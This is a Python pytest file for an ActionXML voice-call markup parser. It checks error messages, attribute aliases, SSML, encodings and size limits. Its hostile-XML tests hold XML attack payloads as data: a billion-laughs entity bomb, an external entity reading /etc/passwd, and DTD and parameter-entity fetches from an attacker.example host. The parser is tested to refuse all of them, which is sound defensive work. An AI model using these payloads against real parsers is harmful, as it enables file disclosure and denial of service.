"""Parsing untrusted documents: locations, messages, decisions, limits and hostile XML."""

from __future__ import annotations

import codecs

import pytest

from at_voice_kit.contracts.actionxml import (
    DEFAULT_MAX_BYTES,
    DOCUMENT_PATH,
    Dial,
    GetDigits,
    Play,
    Problem,
    Record,
    Redirect,
    Response,
    Rule,
    Say,
    Voice,
    parse,
    render,
)

DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'

MULTI_LINE = f"""{DECLARATION}
<Response>
  <Say voice="robot">Hello</Say>
  <GetDigits timeout="soon">
    <Say>Press 1</Say>
    <Play url="https://m.example.com/a.mp3"/>
  </GetDigits>
  <Redirect>https://app.example.com/next</Redirect>
  <Say>never heard</Say>
</Response>
"""


def test_problems_come_in_document_order_with_lines_paths_and_rules() -> None:
    result = parse(MULTI_LINE)
    assert result.response is None and not result.ok
    assert [(p.line, p.path, p.element, p.attribute, p.rule) for p in result.problems] == [
        (3, "Response/Say[1]", "Say", "voice", Rule.BAD_VALUE),
        (4, "Response/GetDigits[1]", "GetDigits", "timeout", Rule.BAD_VALUE),
        (6, "Response/GetDigits[1]/Play[1]", "Play", None, Rule.WRONG_NESTING),
        (9, "Response/Say[2]", "Say", None, Rule.AFTER_TERMINAL),
    ]


def test_a_problem_prints_as_one_line_with_location_message_and_rule() -> None:
    problem = parse(MULTI_LINE).problems[0]
    assert str(problem) == (
        "3: Response/Say[1]: `Say` attribute `voice` must be `man`, `woman` or a voice name "
        "such as `en-US-Standard-C`, not 'robot' [bad-value]"
    )
    without_line = Problem("Response/Say[1]", "Say", None, Rule.MISSING_TEXT, "msg")
    assert str(without_line) == "Response/Say[1]: msg [missing-text]"


@pytest.mark.parametrize(
    ("document", "fragments"),
    [
        (
            "<Response><getdigits/></Response>",
            ["`getdigits`", "did you mean `GetDigits`?", "case-sensitive"],
        ),
        ("<Response><GetDigit/></Response>", ["`GetDigit`", "did you mean `GetDigits`?"]),
        (
            "<Response><Say Voice='man'>x</Say></Response>",
            ["`Say` has no attribute `Voice`", "`voice`"],
        ),
        ("<Response><Dial phonenumbers='+254711082369'/></Response>", ["`phoneNumbers`"]),
        ("<RESPONSE/>", ["root element must be `Response`", "did you mean `Response`?"]),
        ("<Response><Play/></Response>", ["`Play` requires the attribute `url`"]),
        ("<Response><Reject/><Say>x</Say></Response>", ["`Reject` is not the only action"]),
        (
            "<Response><Say>a<Say>b</Say></Say></Response>",
            ["`Say` cannot contain `Say`", "only `GetDigits` and `Record`"],
        ),
        (
            "<Response><Record><Say>a</Say><Play url='http://a/b'/></Record></Response>",
            ["second one"],
        ),
        (
            "<Response><GetDigits timeout='-1'/></Response>",
            ["`GetDigits` attribute `timeout`", "whole number", "'-1'"],
        ),
        (
            "<Response><Dial phoneNumbers='+2547110823'/></Response>",
            ["entry '+2547110823'", "not a valid number"],
        ),
    ],
)
def test_messages_name_the_element_attribute_and_rule(document: str, fragments: list[str]) -> None:
    message = parse(document).problems[0].message
    for fragment in fragments:
        assert fragment in message


def test_alternative_spellings_parse_ok_with_a_note_naming_the_canonical_one() -> None:
    document = (
        "<Response><GetDigits callBackUrl='https://a.example.com/x'/>"
        "<Dial phoneNumbers='+254711082369' ringbackTone='https://a.example.com/r.mp3'/></Response>"
    )
    result = parse(document)
    assert result.ok and result.problems == ()
    assert result.response == Response(
        (
            GetDigits(callback_url="https://a.example.com/x"),
            Dial(("+254711082369",), ring_back_tone="https://a.example.com/r.mp3"),
        )
    )
    assert [(n.rule, n.attribute) for n in result.notes] == [
        (Rule.ALIAS_SPELLING, "callBackUrl"),
        (Rule.ALIAS_SPELLING, "ringbackTone"),
    ]
    assert "`callbackUrl` is canonical" in result.notes[0].message


SSML_SAY = (
    '<Response><Say voice="woman"><speak>Your balance is '
    '<say-as interpret-as="currency" language="en-US">$100</say-as>'
    '<break time="500ms"/>Goodbye</speak></Say></Response>'
)


def test_ssml_in_say_is_its_text_with_one_note_naming_the_markup() -> None:
    result = parse(SSML_SAY)
    assert result.ok and result.problems == ()
    assert result.response == Response((Say("Your balance is $100Goodbye", Voice.WOMAN),))
    (note,) = result.notes
    assert (note.rule, note.path, note.element) == (Rule.SSML_IN_SAY, "Response/Say[1]", "Say")
    assert "(<speak>, <say-as>, <break>)" in note.message


def test_ssml_deeper_than_the_grammar_is_still_read_whole() -> None:
    # Response/GetDigits/Say/speak/p/s/emphasis: markup below the depth the grammar reads.
    document = (
        "<Response><GetDigits><Say><speak>Press <p><s>one <emphasis>now</emphasis></s></p>"
        "<amazon:effect xmlns:amazon='urn:x-amazon'> please</amazon:effect></speak></Say>"
        "</GetDigits></Response>"
    )
    result = parse(document)
    assert result.response == Response((GetDigits(Say("Press one now please")),))
    assert [n.rule for n in result.notes] == [Rule.SSML_IN_SAY]


@pytest.mark.parametrize(
    ("document", "rules"),
    [
        ("<Response><Say><speak><break time='1s'/></speak></Say></Response>", [Rule.MISSING_TEXT]),
        (
            "<Response><Say>Hi<Play url='https://a.example.com/a.mp3'/></Say></Response>",
            [Rule.WRONG_NESTING],
        ),
        ("<Response><Say>Hi<hangup/></Say></Response>", [Rule.UNKNOWN_ELEMENT]),
        (
            "<Response><Play url='https://a.example.com/a.mp3'><speak>x</speak></Play></Response>",
            [Rule.UNKNOWN_ELEMENT],
        ),
    ],
)
def test_markup_does_not_excuse_an_empty_say_nor_actionxml_out_of_place(
    document: str, rules: list[Rule]
) -> None:
    assert [p.rule for p in parse(document).problems] == rules


def test_both_spellings_at_once_is_a_duplicate() -> None:
    document = "<Response><Record callbackUrl='http://a/x' callBackUrl='http://a/y'/></Response>"
    assert [p.rule for p in parse(document).problems] == [Rule.DUPLICATE_ATTRIBUTE]


def test_empty_response_is_valid() -> None:
    assert parse("<Response/>").response == Response(())
    assert parse("<Response>\n  <!-- nothing yet -->\n</Response>").response == Response(())


def test_say_text_is_kept_verbatim_and_redirect_url_is_trimmed() -> None:
    document = (
        "<Response><Say>\n  Hello,\n  world  </Say>"
        "<Redirect>\n https://a.example.com/n \n</Redirect></Response>"
    )
    assert parse(document).response == Response(
        (Say("\n  Hello,\n  world  "), Redirect("https://a.example.com/n"))
    )


def test_attribute_values_are_taken_literally() -> None:
    problems = parse("<Response><GetDigits numDigits='4 '/></Response>").problems
    assert [(p.rule, p.attribute) for p in problems] == [(Rule.BAD_VALUE, "numDigits")]


@pytest.mark.parametrize(
    "record",
    [
        "<Record/>",
        "<Record></Record>",
        "<Record>\n </Record>",
        "<Record xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"
        " xsi:noNamespaceSchemaLocation='a.xsd'/>",
    ],
)
def test_record_with_no_attributes_and_no_children_is_terminal(record: str) -> None:
    result = parse(f"<Response>{record}</Response>")
    assert result.response == Response((Record(terminal=True),))
    after = parse(f"<Response>{record}<Say>x</Say></Response>")
    assert [p.rule for p in after.problems] == [Rule.AFTER_TERMINAL]


def test_dial_and_dequeue_are_not_terminal_their_fallback_runs() -> None:
    document = (
        "<Response><Dial phoneNumbers='+254711082369'/><Say>Nobody answered</Say>"
        "<Dequeue phoneNumber='+254711082369'/><Enqueue/><Conference/>"
        "<Say>Still here</Say></Response>"
    )
    assert parse(document).ok


def test_typed_values_and_attribute_spelling() -> None:
    document = (
        "<Response><GetDigits numDigits='4' timeout='0' finishOnKey='*' callbackUrl='https://a.example.com/c'>"
        "<Say voice='man' playBeep='true'>Hi</Say></GetDigits>"
        "<Dial phoneNumbers='+254711082369 , bob@ke.sip.africastalking.com' record='false' "
        "sequential='true' callerId='+254711082000' maxDuration='60'/></Response>"
    )
    assert parse(document).response == Response(
        (
            GetDigits(
                prompt=Say("Hi", voice=Voice.MAN, play_beep=True),
                num_digits=4,
                timeout=0,
                finish_on_key="*",
                callback_url="https://a.example.com/c",
            ),
            Dial(
                ("+254711082369", "bob@ke.sip.africastalking.com"),
                record=False,
                sequential=True,
                caller_id="+254711082000",
                max_duration=60,
            ),
        )
    )


def test_defaults_of_absent_attributes() -> None:
    say, get_digits, dial = Say("x"), GetDigits(), Dial(("+254711082369",))
    record = Record(max_length=5)
    assert (say.effective_voice, say.effective_play_beep) == (Voice.WOMAN, False)
    assert get_digits.effective_timeout == 30
    assert (dial.effective_sequential, dial.effective_record) == (False, False)
    assert (record.effective_timeout, record.effective_trim_silence) == (3600, False)
    assert GetDigits(timeout=5).effective_timeout == 5


# --- the document as a whole ---------------------------------------------------------------


@pytest.mark.parametrize(
    "document",
    [
        "",
        "   ",
        "hello",
        "<Response>",
        "<Response></response>",
        "<Response/><Response/>",
        b"\xff\xfe\x00",
        "<Response><Say>a & b</Say></Response>",
    ],
)
def test_not_xml_is_one_document_problem(document: str | bytes) -> None:
    result = parse(document)
    assert [(p.rule, p.path, p.element) for p in result.problems] == [
        (Rule.NOT_XML, DOCUMENT_PATH, None)
    ]
    assert result.problems[0].message.startswith("not well-formed XML")


def test_not_xml_reports_the_line() -> None:
    assert parse("<Response>\n<Say>\n</Response>").problems[0].line == 3


def test_other_types_are_reported_not_raised() -> None:
    assert parse(12345).problems[0].rule is Rule.NOT_XML  # type: ignore[arg-type]
    assert parse(bytearray(b"<Response/>")).ok  # type: ignore[arg-type]


def test_namespaced_response_is_not_the_response_root() -> None:
    problem = parse('<Response xmlns="urn:x"/>').problems[0]
    assert (problem.rule, problem.element) == (Rule.NO_RESPONSE_ROOT, "{urn:x}Response")


def test_encodings_and_byte_order_marks() -> None:
    expected = Response((Say("Café"),))
    assert parse("\ufeff<Response><Say>Café</Say></Response>").response == expected
    assert parse("<Response><Say>Café</Say></Response>".encode("utf-16")).response == expected
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><Response><Say>Café</Say></Response>'
    assert parse(latin.encode("latin-1")).response == expected


def test_size_limit_counts_bytes_and_refuses_before_parsing() -> None:
    document = "<Response><Say>" + "é" * 10 + "</Say></Response>"
    size = len(document.encode("utf-8"))
    assert parse(document, max_bytes=size).ok
    assert parse(document.encode(), max_bytes=size).ok
    for over in (document, document.encode()):
        problems = parse(over, max_bytes=size - 1).problems
        assert [(p.rule, p.path) for p in problems] == [(Rule.TOO_LARGE, DOCUMENT_PATH)]
        assert f"limit of {size - 1} bytes" in problems[0].message
    # Refused before parsing: not even well-formedness is judged.
    assert parse("<" * (DEFAULT_MAX_BYTES + 1)).problems[0].rule is Rule.TOO_LARGE


def test_max_bytes_must_be_positive() -> None:
    with pytest.raises(ValueError, match="max_bytes"):
        parse("<Response/>", max_bytes=0)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE Response [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Response><Say>&lol9;</Say></Response>
"""


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        '<!DOCTYPE Response [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response><Say>&x;</Say></Response>',
        '<!DOCTYPE Response SYSTEM "http://attacker.example/actionxml.dtd"><Response/>',
        '<!DOCTYPE Response [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><Response/>',
        '<!DOCTYPE Response [<!ENTITY a "aaaaaaaaaa">]><Response><Say>'
        + "&a;" * 1000
        + "</Say></Response>",
        "<!DOCTYPE Response><Response/>",
    ],
    ids=[
        "billion-laughs",
        "external-file",
        "external-dtd",
        "parameter-entity",
        "quadratic",
        "bare-doctype",
    ],
)
def test_dtds_and_entities_are_refused_without_expansion(document: str) -> None:
    result = parse(document)
    assert [(p.rule, p.path) for p in result.problems] == [(Rule.DTD_FORBIDDEN, DOCUMENT_PATH)]
    assert result.problems[0].line is not None
    assert "DTD" in result.problems[0].message and len(result.problems[0].message) < 300


def test_undeclared_entities_are_not_xml() -> None:
    assert parse("<Response><Say>&nbsp;</Say></Response>").problems[0].rule is Rule.NOT_XML


def test_deep_nesting_is_reported_at_the_first_wrong_level_without_recursion() -> None:
    depth = 20_000
    document = "<Response>" + "<Say>" * depth + "x" + "</Say>" * depth + "</Response>"
    result = parse(document, max_bytes=len(document))
    assert [(p.rule, p.path) for p in result.problems] == [
        (Rule.MISSING_TEXT, "Response/Say[1]"),  # its only text is nested, out of place
        (Rule.WRONG_NESTING, "Response/Say[1]/Say[1]"),
    ]


def test_many_problems_are_all_reported() -> None:
    document = "<Response>" + "<Play/>" * 2000 + "</Response>"
    problems = parse(document).problems
    assert len(problems) == 2000
    assert problems[-1].path == "Response/Play[2000]"


def test_valid_document_round_trips_through_prompt_and_play() -> None:
    document = "<Response><Record maxLength='10'><Play url='https://a.example.com/p.wav'/></Record></Response>"
    assert parse(document).response == Response(
        (Record(prompt=Play("https://a.example.com/p.wav"), max_length=10),)
    )


@pytest.mark.parametrize(
    "encoding",
    ["AUTF-8", "hex", "rot13", "shift_jis", "utf-7", "idna", "undefined", "punycode", "cp500"],
)
def test_unusable_declared_encodings_are_not_xml(encoding: str) -> None:
    document = f'<?xml version="1.0" encoding="{encoding}"?><Response/>'.encode()
    problem = parse(document).problems[0]
    assert (problem.rule, problem.path) == (Rule.NOT_XML, DOCUMENT_PATH)
    assert f"unsupported encoding {encoding!r}" in problem.message


@pytest.mark.parametrize(
    ("encoding", "codec", "byte_order_mark"),
    [
        ("UTF-8", "utf-8", ""),
        ("utf8", "utf-8", "\ufeff"),
        ("csISOLatin1", "latin-1", ""),  # an IANA alias pyexpat would not know
        ("windows-1252", "cp1252", ""),
        ("UTF-16", "utf-16", ""),
        ("UTF-16LE", "utf-16-le", ""),
        ("utf-16be", "utf-16-be", "\ufeff"),
    ],
)
def test_documents_in_a_supported_charset_are_read_whatever_its_alias(
    encoding: str, codec: str, byte_order_mark: str
) -> None:
    text = "caf\u00e9 \u20ac" if codec not in ("latin-1",) else "caf\u00e9"
    document = f'{byte_order_mark}<?xml version="1.0" encoding="{encoding}"?>'
    document += f"<Response><Say>{text}</Say></Response>"
    result = parse(document.encode(codec))
    assert result.response == Response((Say(text),)), result.problems


def test_a_declared_encoding_never_reaches_pythons_codec_registry() -> None:
    """pyexpat looks up any encoding it does not know itself in Python's registry (where
    ``punycode`` is quadratic); the allow-list answers first."""
    asked: list[str] = []

    def search(name: str) -> None:
        asked.append(name)

    codecs.register(search)
    try:
        result = parse(b'<?xml version="1.0" encoding="x-atsim-probe"?><Response/>')
    finally:
        codecs.unregister(search)
    assert not result.ok and asked == []


@pytest.mark.parametrize("name", ["en-US-Standard-C", "en-US-Wavenet-C", "en-GB-Neural2-A"])
def test_a_named_text_to_speech_voice_is_a_voice(name: str) -> None:
    """Production apps on AT answer Google-style voice names, and AT's Node.js SDK takes any
    ``voice`` string: no problem, and the name is kept as written."""
    document = f'<Response><Say voice="{name}">Welcome</Say></Response>'
    parsed = parse(document)
    assert parsed.problems == ()
    assert parsed.response is not None
    (say,) = parsed.response.actions
    assert isinstance(say, Say) and say.voice == name and say.effective_voice == name
    assert f'<Say voice="{name}">Welcome</Say>' in render(parsed.response)
